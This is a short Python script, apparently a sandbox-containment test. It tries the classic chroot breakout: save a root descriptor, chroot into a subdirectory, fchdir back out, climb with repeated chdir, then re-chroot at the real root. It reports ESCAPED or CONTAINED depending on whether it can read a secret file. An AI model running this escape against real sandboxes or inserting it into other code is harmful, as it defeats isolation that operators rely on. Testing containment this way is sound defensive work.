"""Leave the root by the old trick: keep a descriptor, chroot deeper, climb from the descriptor.

wall: system calls, privileges
bare: root
alone: yes
"""

import json
import os

scene = json.loads(os.environ["SCENE"])
try:
    outside = os.open("/", os.O_RDONLY)
    os.chroot("sub")
    os.fchdir(outside)
    for _ in range(30):
        os.chdir("..")
    os.chroot(".")
    with open(scene["secret_file"]) as file:
        print("ESCAPED" if scene["secret"] in file.read() else "CONTAINED")
except OSError as error:
    print(f"{error}\nCONTAINED")
